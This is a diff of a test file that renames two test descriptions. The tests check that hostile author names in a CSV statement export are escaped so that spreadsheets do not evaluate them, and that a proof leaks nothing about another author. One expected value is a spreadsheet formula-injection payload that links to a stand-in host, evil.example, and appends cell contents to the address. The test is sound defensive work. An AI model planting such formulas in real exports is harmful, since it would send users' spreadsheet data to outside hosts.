@@ -27,7 +27,7 @@ beforeAll(async () => {
 });
 afterAll(() => world.close());
 
-describe('Case 28: names that mean to be more than names, and statements of somebody else', () => {
+describe('Case 28: names that contain code, and statements of somebody else', () => {
   it('writes hostile names into CSV so that no spreadsheet computes them', async () => {
     const csv = await world.file(hostile.session, `/author/statements/${id}/csv`);
     expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
@@ -73,7 +73,7 @@ describe('Case 28: names that mean to be more than names, and statements of some
     expect(list.body).not.toContain(other.orgId);
   });
 
-  it('tells nothing of the other author in the proof', async () => {
+  it('reveals nothing of the other author in the proof', async () => {
     const text = await world.file(hostile.session, `/author/statements/${id}/json`);
     const { proof } = parseStatement(text);
     expect(proof!.size).toBe(2);
